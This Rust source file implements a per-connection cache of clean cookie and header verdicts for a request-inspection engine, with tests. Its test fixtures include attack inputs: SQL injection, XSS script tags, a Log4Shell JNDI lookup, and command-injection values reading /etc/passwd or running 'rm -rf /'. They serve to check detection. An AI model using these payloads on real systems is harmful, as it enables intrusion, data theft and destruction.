//! Clean cookie and header values of one client, remembered for its next requests.
//!
//! A browser sends the same cookies with every request of a connection and the same
//! `Referer` with every asset of a page; an API client the same credentials and client
//! version headers. A consent cookie with escapes, a referer URL or a version string
//! with parentheses costs more to screen than every other header together. The
//! [`super::SharedMemo`] cannot hold them: it serves all clients, so whether a value hits
//! would tell one client (by timing) that another sent it, and these values carry session
//! ids, tokens and keys. A `ClientMemo` serves one client connection only, and keeps
//! keyed hashes, not the values: it holds no secret, and a value cannot be crafted to
//! match another without the key.

use std::hash::{BuildHasher, Hasher, RandomState};
use std::sync::{Mutex, PoisonError};

use super::memo::second_chance;
use crate::field::{FieldKind, Location};

/// Values remembered per connection: more cookies and headers than most clients send.
const SLOTS: usize = 32;
/// Longest value remembered (a JWT or a serialized preference object fits).
pub(super) const MAX_VALUE: usize = 4096;
/// Shortest value remembered: shorter ones cost less to screen than to hash (measured on
/// the `screen` bench's heads).
pub(super) const MIN_VALUE: usize = 8;

/// Clean cookie and header values seen on one client connection, for
/// [`super::Scan::remembering`].
/// Create one per connection whose requests all come from the same client (not one a
/// proxy shares between its clients) and hand it to every scan of that connection.
#[derive(Debug)]
pub struct ClientMemo {
    /// Keys the hashes: without it nobody can make two values share one.
    keys: RandomState,
    slots: Mutex<Slots>,
}

#[derive(Debug, Default)]
struct Slots {
    entries: Vec<Entry>,
    /// Where the search for a slot to replace resumes once all are taken.
    hand: usize,
}

impl Slots {
    fn find(&mut self, key: Key) -> Option<&mut Entry> {
        self.entries.iter_mut().find(|e| e.key == key)
    }

    /// The slot a new value takes once all are taken: the next one not used since the
    /// hand last passed it (a second chance), so values the client sends with every
    /// request stay while values new with each request replace one another.
    fn victim(&mut self) -> usize {
        let entries = &mut self.entries;
        second_chance(&mut self.hand, SLOTS, |at| {
            entries
                .get_mut(at)
                .is_some_and(|e| std::mem::take(&mut e.used))
        })
    }
}

/// Where a value would be remembered: the keyed hash of the scope, the kind, the
/// location and the value, and the value's length.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Key {
    hash: u64,
    len: u32,
}

#[derive(Debug, Clone, Copy)]
struct Entry {
    key: Key,
    /// Decoded bytes the inspection charged to its budget.
    charged: u32,
    /// Found since the replacement hand last passed.
    used: bool,
}

impl Default for ClientMemo {
    fn default() -> Self {
        Self::new()
    }
}

impl ClientMemo {
    /// An empty memo (it allocates on the first value remembered).
    pub fn new() -> ClientMemo {
        ClientMemo {
            keys: RandomState::new(),
            slots: Mutex::new(Slots::default()),
        }
    }

    /// Where `value` seen as `kind` at `at` is remembered, if it may be. `scope` keeps the
    /// verdicts of one engine and policy apart from another's (a connection's requests may
    /// reach routes with different policies), and the location keeps a verdict where it
    /// was reached: an exclusion may make a value clean at one location only (rules skip
    /// `header:referer`).
    pub(super) fn key(
        &self,
        scope: u64,
        kind: FieldKind,
        at: &Location<'_>,
        value: &[u8],
    ) -> Option<Key> {
        if !(MIN_VALUE..=MAX_VALUE).contains(&value.len()) {
            return None;
        }
        let (scope_name, name) = (at.scope().as_bytes(), at.name().as_bytes());
        let len = u32::try_from(value.len()).ok()?;
        // One keyed stream: a header of the fixed-size parts and every length, then the
        // variable parts back to back. The lengths make the stream decode to one tuple
        // only, so distinct inputs never share it. SipHash of a stream does not depend
        // on how it is cut into writes, and each write costs more than eight bytes of
        // hashing: short inputs are joined on the stack and written once (hashing the
        // tuple made seven writes).
        let mut header = [0u8; 17];
        header[..8].copy_from_slice(&scope.to_le_bytes());
        header[8] = kind as u8;
        header[9..11].copy_from_slice(&u16::try_from(scope_name.len()).ok()?.to_le_bytes());
        header[11..13].copy_from_slice(&u16::try_from(name.len()).ok()?.to_le_bytes());
        header[13..].copy_from_slice(&len.to_le_bytes());
        let mut hasher = self.keys.build_hasher();
        let parts = [&header[..], scope_name, name, value];
        let total: usize = parts.iter().map(|p| p.len()).sum();
        let mut joined = [0u8; 192];
        if let Some(buf) = joined.get_mut(..total) {
            let mut at = 0;
            for p in parts {
                buf[at..at + p.len()].copy_from_slice(p);
                at += p.len();
            }
            hasher.write(buf);
        } else {
            for p in parts {
                hasher.write(p);
            }
        }
        Some(Key {
            hash: hasher.finish(),
            len,
        })
    }

    /// The decoded bytes the value of `key` charged when it was found clean, if it was.
    pub(super) fn lookup(&self, key: Key) -> Option<usize> {
        let mut slots = self.slots.lock().unwrap_or_else(PoisonError::into_inner);
        let entry = slots.find(key)?;
        entry.used = true;
        Some(entry.charged as usize)
    }

    /// Remembers the value of `key` as clean, its inspection having charged `charged`
    /// bytes.
    pub(super) fn insert(&self, key: Key, charged: usize) {
        let Ok(charged) = u32::try_from(charged) else {
            return;
        };
        let entry = Entry {
            key,
            charged,
            used: false,
        };
        let mut slots = self.slots.lock().unwrap_or_else(PoisonError::into_inner);
        if slots.find(key).is_some() {
            // Another request of the connection (an h2 stream) got there first.
            return;
        }
        if slots.entries.len() < SLOTS {
            slots.entries.push(entry);
            return;
        }
        let at = slots.victim();
        slots.entries[at] = entry;
    }

    /// Values remembered (for tests).
    #[cfg(test)]
    pub(super) fn len(&self) -> usize {
        self.slots
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .entries
            .len()
    }
}

/// Whether `field` is remembered per client: what the client repeats across requests
/// and the shared memo must not hold: cookie values and header values (credentials, the
/// `Referer` every asset of a page names, client versions), but not the headers that
/// are new with each request (ids, trace context, conditions, signatures): they would
/// only cost a hash each and push the others out.
pub(super) fn per_client(field: &crate::Field<'_>) -> bool {
    match field.kind {
        FieldKind::CookieValue => true,
        FieldKind::HeaderValue => {
            field.location.scope() == "header" && !per_request_header(field.location.name())
        }
        _ => false,
    }
}

/// Headers (as [`crate::extract`] names them: lowercase) whose value changes from one
/// request to the next.
fn per_request_header(name: &str) -> bool {
    matches!(
        name,
        "b3" | "baggage"
            | "content-digest"
            | "content-length"
            | "content-md5"
            | "correlation-id"
            | "date"
            | "digest"
            | "idempotency-key"
            | "if-match"
            | "if-modified-since"
            | "if-none-match"
            | "if-range"
            | "if-unmodified-since"
            | "range"
            | "request-id"
            | "sentry-trace"
            | "signature"
            | "signature-input"
            | "traceparent"
            | "tracestate"
            | "uber-trace-id"
            | "x-amz-content-sha256"
            | "x-amz-date"
            | "x-amzn-trace-id"
            | "x-b3-parentspanid"
            | "x-b3-spanid"
            | "x-b3-traceid"
            | "x-cloud-trace-context"
            | "x-correlation-id"
            | "x-datadog-parent-id"
            | "x-datadog-trace-id"
            | "x-idempotency-key"
            | "x-request-id"
    )
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "test")]

    use super::{ClientMemo, MAX_VALUE, MIN_VALUE, SLOTS};
    use crate::{Budget, Engine, Field, FieldKind, Findings, Location, Policy, SharedMemo};

    fn cookies(pairs: &[(&'static str, &'static str)]) -> Vec<Field<'static>> {
        let mut out = Vec::new();
        for (n, v) in pairs {
            let at = Location::new("cookie", *n);
            out.push(Field::new(at.clone(), FieldKind::CookieName, n.as_bytes()));
            out.push(Field::new(at, FieldKind::CookieValue, v.as_bytes()));
        }
        out
    }

    fn scan(
        engine: &Engine,
        policy: &Policy,
        memos: Option<(&SharedMemo, &ClientMemo)>,
        fields: &[Field<'_>],
    ) -> Findings {
        let (fields, mut budget) = (fields.iter().cloned(), Budget::default());
        match memos {
            Some((shared, client)) => {
                engine.inspect_for_client(fields, policy, &mut budget, shared, client)
            }
            None => engine.inspect(fields, policy, &mut budget),
        }
    }

    #[test]
    fn remembers_clean_cookie_values_for_the_client_and_finds_what_a_fresh_scan_finds() {
        let (engine, policy) = (Engine::builtin(), Policy::default());
        let (shared, client) = (SharedMemo::new(), ClientMemo::new());
        let jars: [&[(&'static str, &'static str)]; 5] = [
            &[
                ("consent", "analytics%3Dno%26ads%3Dno"),
                ("last_seen", "2024-05-01T10%3A00%3A00Z"),
                ("sid", "9f86d081884c7d659a2feaa0c55ad015"),
            ],
            &[("theme", "' or 1=1--")],
            &[(
                "consent",
                "analytics%3Dno%26ads%3D%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            )],
            &[
                ("pref", "eyJsYW5nIjoiZW4ifQ"),
                ("x", "${jndi:ldap://203.0.113.9/a}"),
            ],
            &[("cart", "3"), ("q", "1;cat /etc/passwd")],
        ];
        // Twice round: the second time every clean value comes from the client's memo.
        for _ in 0..2 {
            for jar in jars {
                let fields = cookies(jar);
                let fresh = scan(&engine, &policy, None, &fields);
                let remembered = scan(&engine, &policy, Some((&shared, &client)), &fields);
                assert_eq!(remembered, fresh, "{jar:?}");
            }
        }
        // The four clean values (`3` is shorter than a hash is worth); the attacks never.
        assert_eq!(client.len(), 4);
        // Cookie names are the shared memo's, values never are.
        assert_eq!(shared.len(), 8);
        // Of the headers the clean ones the client repeats, not those new with each
        // request, values too short to pay for a hash, or one carrying an attack.
        let heads: [&[(&'static str, &'static str)]; 4] = [
            &[
                ("referer", "https://shop.example/catalog?tab=reviews&page=1"),
                ("x-request-id", "0b8e7f3c-2a1d-4e5f-9a8b-7c6d5e4f3a2b"),
                (
                    "traceparent",
                    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
                ),
                ("x-client-version", "billing-sync/4.18.2 (build 20240501.3)"),
                ("x-tenant", "acme"),
            ],
            &[(
                "referer",
                "https://shop.example/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            )],
            &[("x-client-version", "sync/1.0 (build 2; rm -rf /)")],
            &[
                ("referer", "https://shop.example/catalog?tab=reviews&page=1"),
                ("x-client-version", "billing-sync/4.18.2 (build 20240501.3)"),
            ],
        ];
        for head in heads {
            let fields: Vec<Field<'static>> = head
                .iter()
                .map(|(n, v)| {
                    Field::new(
                        Location::new("header", *n),
                        FieldKind::HeaderValue,
                        v.as_bytes(),
                    )
                })
                .collect();
            let fresh = scan(&engine, &policy, None, &fields);
            let remembered = scan(&engine, &policy, Some((&shared, &client)), &fields);
            assert_eq!(remembered, fresh, "{head:?}");
        }
        assert_eq!(client.len(), 6);
    }

    #[test]
    fn verdicts_hold_only_for_the_engine_and_policy_that_reached_them() {
        let plain = Engine::from_rules("").unwrap();
        let marking = Engine::from_rules(crate::testing::MARKER_RULE).unwrap();
        let policy = Policy::default();
        let fields = cookies(&[("pref", "evil-marker")]);
        let client = ClientMemo::new();
        // Clean under the engine without the rule (another route of the connection)...
        let plain_memo = SharedMemo::new();
        assert!(scan(&plain, &policy, Some((&plain_memo, &client)), &fields).is_clean());
        assert_eq!(client.len(), 1);
        // ...which must not hide it from the engine that has the rule.
        let marking_memo = SharedMemo::new();
        assert!(scan(&marking, &policy, Some((&marking_memo, &client)), &fields).blocks(5));
        // Nor from a policy where the rule is excluded for that cookie only.
        let excluding = Policy::from_toml(
            "[[exclusions]]\nrules = [\"test-001\"]\nlocations = [\"cookie:pref\"]",
            &marking,
        )
        .unwrap();
        // (A verdict is kept with its location, so clean there is remembered there only.)
        let (memo, client) = (SharedMemo::new(), ClientMemo::new());
        assert!(scan(&marking, &excluding, Some((&memo, &client)), &fields).is_clean());
        assert_eq!(client.len(), 1);
        let elsewhere = cookies(&[("other", "evil-marker")]);
        assert!(scan(&marking, &excluding, Some((&memo, &client)), &elsewhere).blocks(5));
        assert!(scan(&marking, &excluding, Some((&memo, &client)), &fields).is_clean());
        // Nor may the same value elsewhere in that request pass for clean.
        let both = cookies(&[("pref", "evil-marker"), ("other", "evil-marker")]);
        assert!(scan(&marking, &excluding, Some((&memo, &client)), &both).blocks(5));
    }

    #[test]
    fn stays_within_its_slots_and_keeps_what_the_client_repeats() {
        let client = ClientMemo::new();
        let at = Location::new("cookie", "v");
        let key = |scope: u64, kind: FieldKind, at: &Location<'_>, v: &str| {
            client.key(scope, kind, at, v.as_bytes())
        };
        // The client's session cookies, sent with every request...
        let kept: Vec<String> = (0..8).map(|i| format!("session-{i}")).collect();
        for v in &kept {
            client.insert(key(7, FieldKind::CookieValue, &at, v).unwrap(), 3);
        }
        // ...while values new with each request come and go.
        for i in 0..100 {
            let churn = key(7, FieldKind::CookieValue, &at, &format!("request-{i}")).unwrap();
            client.insert(churn, 0);
            for v in &kept {
                let k = key(7, FieldKind::CookieValue, &at, v).unwrap();
                assert_eq!(client.lookup(k), Some(3), "{v} after {i}");
            }
        }
        assert_eq!(client.len(), SLOTS);
        // The latest new value is kept, the oldest replaced.
        let latest = key(7, FieldKind::CookieValue, &at, "request-99").unwrap();
        assert_eq!(client.lookup(latest), Some(0));
        let oldest = key(7, FieldKind::CookieValue, &at, "request-0").unwrap();
        assert_eq!(client.lookup(oldest), None);
        // Another scope, another kind, another location: another key.
        for other in [
            key(8, FieldKind::CookieValue, &at, "request-99"),
            key(7, FieldKind::QueryValue, &at, "request-99"),
            key(
                7,
                FieldKind::CookieValue,
                &Location::new("cookie", "w"),
                "request-99",
            ),
        ] {
            let other = other.unwrap();
            assert_ne!(other, latest);
            assert_eq!(client.lookup(other), None);
        }
        // The same bytes split elsewhere between scope, name and value: another key.
        let split = |scope: &'static str, name: &'static str, v: &str| {
            key(7, FieldKind::CookieValue, &Location::new(scope, name), v).unwrap()
        };
        let one = split("cookie", "ab", "cdefghijkl");
        client.insert(one, 1);
        for other in [
            split("cookie", "a", "bcdefghijkl"),
            split("cookie", "abc", "defghijkl"),
            split("cookiea", "b", "cdefghijkl"),
        ] {
            assert_ne!(other, one);
            assert_eq!(client.lookup(other), None);
        }
        assert_eq!(client.lookup(split("cookie", "ab", "cdefghijkl")), Some(1));
        // Too long or too short to remember.
        let long = "a".repeat(MAX_VALUE + 1);
        let short = "a".repeat(MIN_VALUE - 1);
        assert_eq!(key(7, FieldKind::CookieValue, &at, &long), None);
        assert_eq!(key(7, FieldKind::CookieValue, &at, &short), None);
        assert!(key(7, FieldKind::CookieValue, &at, &"a".repeat(MAX_VALUE)).is_some());
    }
}
